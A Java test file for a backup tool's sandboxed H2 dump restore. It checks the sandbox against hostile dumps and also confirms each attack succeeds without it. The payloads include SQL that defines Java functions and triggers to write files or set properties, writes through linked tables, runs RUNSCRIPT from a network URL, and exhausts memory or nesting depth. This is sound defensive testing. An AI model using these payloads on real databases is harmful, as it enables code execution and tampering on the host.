package io.opsmon.backup.internal.h2;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.awaitility.Awaitility.await;

import com.zaxxer.hikari.HikariDataSource;
import io.opsmon.backup.BackupDatabase;
import io.opsmon.backup.BackupRunner.DumpReport;
import io.opsmon.backup.BackupRunner.Scratch;
import io.opsmon.backup.HalfRestoredException;
import io.opsmon.backup.RestoreScope;
import io.opsmon.backup.TableProgress;
import io.opsmon.backup.internal.engine.Differences;
import io.opsmon.internal.file.WorkDirectory;
import io.opsmon.testsupport.TestDatabases;
import io.opsmon.testsupport.TestJvm;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermission;
import java.sql.SQLException;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.util.unit.DataSize;

/** Attacks with signed dumps, and ordinary dumps with code in them. */
class H2CageTest {

    private static final String END = "\n-- opsmon: end of the script\n";
    private static final Duration PATIENCE = Duration.ofMinutes(2);

    /** Endless statements of kinds that scripts have. */
    private static final String ENDLESS = "CREATE MEMORY TABLE \"PUBLIC\".\"T\"(\"A\" BIGINT);\n"
            + "INSERT INTO \"PUBLIC\".\"T\" VALUES ((SELECT SUM(A.X * B.X) FROM SYSTEM_RANGE(1, 10000000) A,"
            + " SYSTEM_RANGE(1, 10000000) B WHERE MOD(A.X + B.X, 7) = 8));";

    private final H2Runner runner = new H2Runner();
    private final HikariDataSource application = TestDatabases.h2();
    private final JdbcTemplate jdbc = new JdbcTemplate(application);
    private final String mark = "opsmon.test." + UUID.randomUUID();

    @TempDir
    private Path directory;

    @AfterEach
    void close() {
        application.close();
        System.clearProperty(mark);
    }

    private static BackupDatabase database(HikariDataSource pool) {
        return new BackupDatabase("main", pool, pool.getJdbcUrl(), pool.getUsername(), pool.getPassword());
    }

    private static InputStream script(String statements) {
        return new ByteArrayInputStream((statements + END).getBytes(StandardCharsets.UTF_8));
    }

    private static String scratchName() {
        return "opsmon_scratch_" + System.nanoTime();
    }

    /** Attacks of a dump on the application. FILE, MARK, PORT and APPLICATION are replaced. */
    enum Attack {
        SOURCE_OF_A_FUNCTION("""
                CREATE FORCE ALIAS "PUBLIC"."F" AS 'String f(String f) throws Exception { java.nio.file.Files.writeString(java.nio.file.Path.of(f), "x"); return f; }';
                CREATE MEMORY TABLE "PUBLIC"."T"("A" VARCHAR);
                INSERT INTO "PUBLIC"."T" VALUES ("PUBLIC"."F"('FILE'));
                """),
        METHOD_OF_THE_JDK("""
                CREATE FORCE ALIAS "PUBLIC"."P" FOR 'java.lang.System.setProperty';
                CREATE MEMORY TABLE "PUBLIC"."T"("A" VARCHAR);
                INSERT INTO "PUBLIC"."T" VALUES ("PUBLIC"."P"('MARK', 'ran'));
                """),
        CALL("""
                CREATE ALIAS P FOR 'java.lang.System.setProperty';
                CALL P('MARK', 'ran');
                """),
        TRIGGER("""
                CREATE MEMORY TABLE "PUBLIC"."T"("A" VARCHAR);
                CREATE FORCE TRIGGER "PUBLIC"."R" BEFORE INSERT ON "PUBLIC"."T" FOR EACH ROW QUEUE 1024 AS 'org.h2.api.Trigger create() { System.setProperty("MARK", "ran"); return (c, o, n) -> {}; }';
                INSERT INTO "PUBLIC"."T" VALUES ('a');
                """),
        LINKED_TABLE("""
                CREATE FORCE LINKED TABLE "PUBLIC"."L"('org.h2.Driver', 'APPLICATION', '', '', 'VICTIM');
                INSERT INTO "PUBLIC"."L" VALUES (666);
                """),
        FILE_IN_A_ROW("""
                CREATE MEMORY TABLE "PUBLIC"."T"("A" BIGINT);
                INSERT INTO "PUBLIC"."T" VALUES (FILE_WRITE('x', 'FILE'));
                """),
        FILE_IN_A_DEFAULT("""
                CREATE MEMORY TABLE "PUBLIC"."T"("A" BIGINT, "B" BIGINT GENERATED ALWAYS AS (FILE_WRITE('x', 'FILE')));
                INSERT INTO "PUBLIC"."T"("A") VALUES (1);
                """),
        FILE_IN_A_TABLE(
                "CREATE MEMORY TABLE \"PUBLIC\".\"T\"(\"A\" BIGINT) AS SELECT CSVWRITE('FILE', 'SELECT 1') FROM DUAL;"),
        CSV("CALL CSVWRITE('FILE', 'SELECT 1');"),
        SCRIPT("SCRIPT TO 'FILE';"),
        BACKUP("CREATE TABLE T(A INT); BACKUP TO 'FILE';"),
        RUN_SCRIPT("RUNSCRIPT FROM 'http://127.0.0.1:PORT/script.sql';"),
        READ_FROM_THE_NETWORK(
                "CREATE MEMORY TABLE \"PUBLIC\".\"T\"(\"A\" VARCHAR) AS SELECT * FROM CSVREAD('http://127.0.0.1:PORT/data.csv');"),
        VIEW_OF_THE_NETWORK(
                "CREATE FORCE VIEW \"PUBLIC\".\"V\" AS SELECT * FROM CSVREAD('http://127.0.0.1:PORT/data.csv');");

        private final String script;

        Attack(String script) {
            this.script = script;
        }
    }

    @ParameterizedTest
    @EnumSource
    void reachesTheApplicationWithoutACageOnly(Attack attack) throws Exception {
        jdbc.execute("CREATE TABLE victim (id int)");
        Path file = directory.resolve("file.zip");
        try (Connections connections = new Connections()) {
            String statements = attack.script
                    .replace("FILE'", file + "'")
                    .replace("MARK", mark)
                    .replace("PORT", Integer.toString(connections.port()))
                    .replace("APPLICATION", application.getJdbcUrl());
            try (Scratch scratch = runner.scratch(database(application), scratchName())) {
                assertThat(scratch.isolation().isIsolated()).isTrue();
                Throwable refused = catchThrowable(() -> scratch.restore(script(statements)));
                if (refused != null) {
                    assertThat(refused).isInstanceOfAny(SQLException.class, IOException.class);
                }
                assertThat(isHit(file, connections)).isFalse();
            }

            // The attack is a real one.
            try (HikariDataSource other = TestDatabases.pool("jdbc:h2:" + directory.resolve("other"))) {
                var unused = catchThrowable(
                        () -> runner.restore(database(other), script(statements), RestoreScope.INTO_EMPTY));
            }
            assertThat(isHit(file, connections)).isTrue();
        }
    }

    private boolean isHit(Path file, Connections connections) {
        return Files.exists(file)
                || System.getProperty(mark) != null
                || connections.count.get() > 0
                || !jdbc.queryForList("SELECT id FROM victim").isEmpty();
    }

    /** Counts connections, and never answers. */
    private static final class Connections implements AutoCloseable {

        private final AtomicInteger count = new AtomicInteger();
        private final ServerSocket socket = new ServerSocket();

        Connections() throws IOException {
            socket.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
            Thread thread = new Thread(() -> {
                while (!socket.isClosed()) {
                    try {
                        Socket guest = socket.accept();
                        count.incrementAndGet();
                        guest.close();
                    } catch (IOException closed) {
                        return;
                    }
                }
            });
            thread.start();
        }

        int port() {
            return socket.getLocalPort();
        }

        @Override
        public void close() throws IOException {
            socket.close();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT 1",
                "set collation OFF",
                "INSERT INTO \"PUBLIC\".\"T\" SELECT 1",
                "INSERT INTO \"PUBLIC\".\"T\"(\"A\") (SELECT 1)",
                "DROP ALL OBJECTS",
                "DROP TABLE IF EXISTS SYSTEM_LOB_STREAM CASCADE",
                "SHUTDOWN",
                "ALTER USER \"SA\" ADMIN TRUE",
                "GRANT ALTER ANY SCHEMA TO \"SA\" /* */",
                "GRANT SELECT ON \"T\" TO \"SA\"; SHUTDOWN",
                "CREATE SCHEMA \"S\" AUTHORIZATION \"SA\"",
                "CREATE USER \"X\" PASSWORD FILE_READ('x') ADMIN",
                "COMMENT ON TABLE \"T\" IS 'a' || FILE_READ('x')",
                "CREATE OR REPLACE FORCE VIEW \"V\" AS SELECT 1",
                "CREATE TABLE \"T\" AS SELECT 1",
                "EXECUTE IMMEDIATE 'SELECT 1'",
                "/* */ CALL 1",
                "@LOOP 5 CALL 1"
            })
    void knowsNoStatementThatNoScriptHas(String statement) {
        assertThat(ScriptStatement.of(statement)).isEmpty();
    }

    @Test
    void refusesWhatNoScriptHas() throws Exception {
        try (Scratch scratch = runner.scratch(database(application), scratchName())) {
            assertThatThrownBy(() -> scratch.restore(script("-- a comment\n  CALL secret('of a person');")))
                    .isInstanceOf(SQLException.class)
                    .hasMessage("The dump has a statement that scripts of H2 do not contain: \"CALL secret\". The"
                            + " statement was not run");
        }
    }

    @Test
    void checksTheDataOfADumpWithTheCodeOfAHost() throws Exception {
        jdbc.execute("SET COLLATION ENGLISH STRENGTH TERTIARY");
        jdbc.execute("CREATE ALIAS twice DETERMINISTIC AS 'int f(int x) { return 2 * x; }'");
        jdbc.execute("CREATE ALIAS big FOR 'java.lang.Math.abs(int)'");
        jdbc.execute("CREATE SCHEMA app");
        jdbc.execute(
                "CREATE TABLE app.plain (id int PRIMARY KEY, a int DEFAULT big(-2), CHECK (big(a) > 1), s varchar)");
        jdbc.execute("INSERT INTO app.plain (id, s) SELECT x, 'ünï; ''' || x FROM system_range(1, 100)");
        jdbc.execute("CREATE TABLE app.computed (id int, d int GENERATED ALWAYS AS (twice(id)))");
        jdbc.execute("INSERT INTO app.computed (id) SELECT x FROM system_range(1, 50)");
        jdbc.execute("CREATE VIEW doubled AS SELECT twice(id) AS d FROM app.plain");
        jdbc.execute("CREATE TABLE elsewhere (id int)");
        jdbc.execute(
                "CREATE LINKED TABLE other ('org.h2.Driver', '" + application.getJdbcUrl() + "', '', '', 'ELSEWHERE')");
        jdbc.execute("CREATE VIEW of_other AS SELECT * FROM other");
        jdbc.execute("COMMENT ON TABLE other IS 'another database'");
        jdbc.execute("CREATE ROLE auditor");
        jdbc.execute("GRANT SELECT ON other TO auditor");
        jdbc.execute("CREATE AGGREGATE middle FOR '" + Middle.class.getName() + "'");
        jdbc.execute("CREATE TRIGGER app.watch BEFORE INSERT ON app.plain FOR EACH ROW AS"
                + " 'org.h2.api.Trigger create() { return (c, o, n) -> { throw new IllegalStateException(); }; }'");
        ByteArrayOutputStream dump = new ByteArrayOutputStream();
        DumpReport report = runner.dump(database(application), dump, TableProgress.NONE);

        try (Scratch scratch = runner.scratch(database(application), scratchName())) {
            assertThat(scratch.restore(new ByteArrayInputStream(dump.toByteArray())))
                    .containsExactlyInAnyOrder(
                            "function \"PUBLIC\".\"TWICE\"",
                            "function \"PUBLIC\".\"BIG\"",
                            "aggregate \"PUBLIC\".\"MIDDLE\"",
                            "linked table \"PUBLIC\".\"OTHER\"",
                            "view \"PUBLIC\".\"OF_OTHER\", which uses \"PUBLIC\".\"OTHER\"",
                            "trigger \"APP\".\"WATCH\"",
                            "content of \"APP\".\"COMPUTED\", which has columns generated by functions that are left out");
            List<String> told = new ArrayList<>();
            assertThat(Differences.between(
                            report.tables(), scratch.contents((done, all) -> told.add(done + " of " + all))))
                    .isEmpty();
            assertThat(told)
                    .startsWith("0 of " + report.tables().size())
                    .endsWith(told.size() - 1 + " of " + (told.size() - 1));
        }
        assertThat(Differences.between(report.tables(), runner.contents(database(application), TableProgress.NONE)))
                .isEmpty();
    }

    /** A function of the application. */
    public static final class Middle implements org.h2.api.AggregateFunction {

        @Override
        public int getType(int[] types) {
            return java.sql.Types.INTEGER;
        }

        @Override
        public void add(Object value) {}

        @Override
        public Object getResult() {
            return 1;
        }
    }

    @Test
    void saysWhyATableCannotBeMade() throws Exception {
        try (Scratch scratch = runner.scratch(database(application), scratchName())) {
            assertThatThrownBy(
                            () -> scratch.restore(
                                    script(
                                            "CREATE MEMORY TABLE \"PUBLIC\".\"T\"(\n    \"A\" BIGINT\n)\nENGINE \"com.example.Engine\";")))
                    .hasMessageContaining("\"PUBLIC\".\"T\" has the table engine \"com.example.Engine\"")
                    .hasMessageContaining("cannot be verified");
        }
    }

    @Test
    void seesThatDataAreMissingOrOther() throws Exception {
        jdbc.execute("CREATE TABLE t (a int)");
        jdbc.execute("INSERT INTO t VALUES (1), (2)");
        ByteArrayOutputStream dump = new ByteArrayOutputStream();
        DumpReport report = runner.dump(database(application), dump, TableProgress.NONE);
        String other = dump.toString(StandardCharsets.UTF_8).replace("(2)", "(3)");
        try (Scratch scratch = runner.scratch(database(application), scratchName())) {
            scratch.restore(new ByteArrayInputStream(other.getBytes(StandardCharsets.UTF_8)));
            assertThat(Differences.between(report.tables(), scratch.contents(TableProgress.NONE)))
                    .containsExactly("PUBLIC.T has other content in its 2 rows");
        }
        byte[] cut = java.util.Arrays.copyOf(dump.toByteArray(), dump.size() - 5);
        try (Scratch scratch = runner.scratch(database(application), scratchName())) {
            assertThatThrownBy(() -> scratch.restore(new ByteArrayInputStream(cut)))
                    .isInstanceOf(IOException.class)
                    .hasMessageContaining("truncated");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "MODE=LEGACY",
                "MODE=PostgreSQL",
                "MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH",
                "MODE=MySQL;DATABASE_TO_LOWER=TRUE;CASE_INSENSITIVE_IDENTIFIERS=TRUE",
                "MODE=MariaDB;DATABASE_TO_LOWER=TRUE",
                "MODE=Oracle",
                "MODE=MSSQLServer;NON_KEYWORDS=VALUE",
                "DATABASE_TO_UPPER=FALSE;IGNORECASE=TRUE",
                "INIT=CREATE SCHEMA IF NOT EXISTS app\\;SET SCHEMA app"
            })
    void verifiesInAllModes(String settings) throws Exception {
        try (HikariDataSource pool = TestDatabases.h2(settings)) {
            JdbcTemplate other = new JdbcTemplate(pool);
            other.execute(
                    "CREATE TABLE \"Mixed case\" (id int PRIMARY KEY, t varchar(100), n numeric(20, 5), at timestamp)");
            other.execute(
                    "INSERT INTO \"Mixed case\" VALUES (1, '', 1.5, TIMESTAMP '2026-03-29 02:30:00'), (2, NULL, NULL, NULL)");
            ByteArrayOutputStream dump = new ByteArrayOutputStream();
            DumpReport report = runner.dump(database(pool), dump, TableProgress.NONE);
            try (Scratch scratch = runner.scratch(database(pool), scratchName())) {
                assertThat(scratch.isolation().isIsolated()).isTrue();
                assertThat(scratch.restore(new ByteArrayInputStream(dump.toByteArray())))
                        .isEmpty();
                assertThat(scratch.contents(TableProgress.NONE)).isEqualTo(report.tables());
            }
            assertThat(report.tables())
                    .extracting(table -> table.name() + " " + table.rows())
                    .containsExactly("Mixed case 2");

            runner.restore(database(pool), new ByteArrayInputStream(dump.toByteArray()), RestoreScope.REPLACE);
            assertThat(runner.contents(database(pool), TableProgress.NONE)).isEqualTo(report.tables());
        }
    }

    /** REPLACE needs a property that only a new function has. */
    @Test
    void verifiesWithTheOldInformationSchemaAndReplacesNothing() throws Exception {
        try (HikariDataSource pool = TestDatabases.h2("OLD_INFORMATION_SCHEMA=TRUE")) {
            new JdbcTemplate(pool).execute("CREATE TABLE t AS SELECT x AS id FROM system_range(1, 100)");
            ByteArrayOutputStream dump = new ByteArrayOutputStream();
            DumpReport report = runner.dump(database(pool), dump, TableProgress.NONE);
            assertThat(report.tables()).hasSize(1);
            try (Scratch scratch = runner.scratch(database(pool), scratchName())) {
                scratch.restore(new ByteArrayInputStream(dump.toByteArray()));
                assertThat(scratch.contents(TableProgress.NONE)).isEqualTo(report.tables());
            }
            assertThatThrownBy(() -> runner.restore(
                            database(pool), new ByteArrayInputStream(dump.toByteArray()), RestoreScope.REPLACE))
                    .isInstanceOf(SQLException.class)
                    .isNotInstanceOf(HalfRestoredException.class);
            assertThat(runner.contents(database(pool), TableProgress.NONE)).isEqualTo(report.tables());
        }
    }

    @Test
    void verifiesFiftyThousandRowsWithLargeValuesInLittleMemory() throws Exception {
        jdbc.execute("CREATE TABLE many (id int PRIMARY KEY, t varchar, c clob, b blob)");
        jdbc.execute(
                "INSERT INTO many SELECT x, repeat('text ', 40), CASE WHEN MOD(x, 500) = 0 THEN repeat('ü', 50000) END,"
                        + " CASE WHEN MOD(x, 500) = 1 THEN CAST(repeat('ab', 50000) AS varbinary) END FROM system_range(1, 50000)");
        ByteArrayOutputStream dump = new ByteArrayOutputStream();
        DumpReport report = runner.dump(database(application), dump, TableProgress.NONE);
        try (Scratch scratch = new H2Runner(DataSize.ofMegabytes(64)).scratch(database(application), scratchName())) {
            assertThat(scratch.restore(new ByteArrayInputStream(dump.toByteArray())))
                    .isEmpty();
            assertThat(scratch.contents(TableProgress.NONE)).isEqualTo(report.tables());
        }
    }

    @Test
    void outlivesADumpThatTakesAllMemory() throws Exception {
        try (Scratch scratch = new H2Runner(DataSize.ofMegabytes(64)).scratch(database(application), scratchName())) {
            assertThatThrownBy(
                            () -> scratch.restore(
                                    script(
                                            "CREATE MEMORY TABLE \"PUBLIC\".\"T\"(\"A\" VARCHAR);\nINSERT INTO \"PUBLIC\".\"T\" VALUES (REPEAT('x', 1000000000));")))
                    .isInstanceOf(IOException.class)
                    .hasMessageContaining("ran out of memory: its limit is 64 MB");
            assertThatThrownBy(() -> scratch.contents(TableProgress.NONE)).isInstanceOf(IOException.class);
        }
    }

    @Test
    void outlivesADumpThatIsNestedWithoutEnd() throws Exception {
        String nested = "(".repeat(200_000) + "1" + ")".repeat(200_000);
        try (Scratch scratch = runner.scratch(database(application), scratchName())) {
            assertThatThrownBy(() -> scratch.restore(script("CREATE MEMORY TABLE \"PUBLIC\".\"T\"(\"A\" BIGINT);\n"
                            + "INSERT INTO \"PUBLIC\".\"T\" VALUES (" + nested + ");")))
                    .isInstanceOfAny(IOException.class, SQLException.class);
        }
    }

    /** Interrupts as the time limit of a verification does. */
    @Test
    void killsTheProcessOfADumpThatTakesForEverWhenInterrupted() throws Exception {
        ExecutorService threads = Executors.newSingleThreadExecutor();
        AtomicReference<@Nullable Thread> working = new AtomicReference<>();
        try (Scratch scratch = runner.scratch(database(application), scratchName())) {
            ProcessHandle cage = cages(ProcessHandle.current()).get(0);
            Future<?> restore = threads.submit(() -> {
                working.set(Thread.currentThread());
                return scratch.restore(script(ENDLESS));
            });
            // The process is computing.
            await().atMost(PATIENCE)
                    .until(() ->
                            cage.info().totalCpuDuration().orElse(Duration.ZERO).toMillis() > 0
                                    && working.get() != null);
            Objects.requireNonNull(working.get()).interrupt();
            assertThatThrownBy(restore::get).hasCauseInstanceOf(InterruptedException.class);
            await().atMost(PATIENCE).until(() -> !cage.isAlive());
        } finally {
            threads.shutdownNow();
        }
        assertThat(cages(ProcessHandle.current())).isEmpty();
    }

    private static List<ProcessHandle> cages(ProcessHandle process) {
        return process.children()
                .filter(child ->
                        child.isAlive() && child.info().commandLine().orElse("").contains(CageMain.class.getName()))
                .toList();
    }

    @Test
    void endsWithItsApplicationAndTheNextOneRemovesItsFiles() throws Exception {
        Path output = directory.resolve("out");
        Process node = TestJvm.start(
                output, "-Djava.io.tmpdir=" + directory, H2CageUntilKilled.class.getName(), ENDLESS + END);
        await().atMost(PATIENCE).until(() -> Files.readString(output).contains("restoring") || !node.isAlive());
        assertThat(node.isAlive()).as(Files.readString(output)).isTrue();
        ProcessHandle cage = cages(node.toHandle()).get(0);
        Path left = onlyScratch();
        assertThat(Files.getPosixFilePermissions(left))
                .containsExactlyInAnyOrder(
                        PosixFilePermission.OWNER_READ,
                        PosixFilePermission.OWNER_WRITE,
                        PosixFilePermission.OWNER_EXECUTE);
        Files.setLastModifiedTime(
                left.resolveSibling(left.getFileName() + ".lock"),
                FileTime.from(Instant.now().minus(Duration.ofDays(2))));
        WorkDirectory.create(directory, H2Scratch.PREFIX, Clock.systemUTC()).close();
        assertThat(left).as("a live one").exists();

        node.destroyForcibly().waitFor();

        await().atMost(PATIENCE).until(() -> !cage.isAlive());
        WorkDirectory.create(directory, H2Scratch.PREFIX, Clock.systemUTC()).close();
        assertThat(left).doesNotExist();
    }

    private Path onlyScratch() throws IOException {
        try (Stream<Path> all = Files.list(directory)) {
            return all.filter(each ->
                            each.getFileName().toString().startsWith(H2Scratch.PREFIX) && Files.isDirectory(each))
                    .findFirst()
                    .orElseThrow();
        }
    }

    @Test
    void saysWhyAndVerifiesInThisProcessWhereNoOtherCanBeStarted() throws Exception {
        jdbc.execute("CREATE TABLE t AS SELECT x AS id FROM system_range(1, 100)");
        ByteArrayOutputStream dump = new ByteArrayOutputStream();
        DumpReport report = runner.dump(database(application), dump, TableProgress.NONE);
        String home = System.getProperty("java.home");
        System.setProperty("java.home", directory.toString());
        try (Scratch scratch = runner.scratch(database(application), scratchName())) {
            System.setProperty("java.home", home);
            assertThat(scratch.isolation().isIsolated()).isFalse();
            assertThat(scratch.isolation().reason()).contains("has no launcher " + directory);
            assertThat(scratch.isolation().remedy()).contains("bin/java");
            assertThat(scratch.restore(new ByteArrayInputStream(dump.toByteArray())))
                    .isEmpty();
            assertThat(scratch.contents(TableProgress.NONE)).isEqualTo(report.tables());
        } finally {
            System.setProperty("java.home", home);
        }
    }

    @Test
    void hasNoVariableOfTheEnvironmentAndNoClassOfTheApplication() throws Exception {
        try (Scratch scratch = runner.scratch(database(application), scratchName())) {
            ProcessHandle cage = cages(ProcessHandle.current()).get(0);
            assertThat(scratch.isolation().isIsolated()).isTrue();
            Path process = Path.of("/proc/" + cage.pid());
            if (Files.isDirectory(process)) {
                assertThat(new String(Files.readAllBytes(process.resolve("environ")), StandardCharsets.UTF_8)
                                .split("\0"))
                        .allMatch(variable ->
                                variable.isEmpty() || variable.startsWith("LANG=") || variable.startsWith("LC_"));
                assertThat(Files.readString(process.resolve("oom_score_adj")).strip())
                        .isEqualTo("1000");
            }
            assertThat(cage.info().commandLine().orElse(""))
                    .doesNotContain("test-classes")
                    .doesNotContain("spring");
        }
    }
}
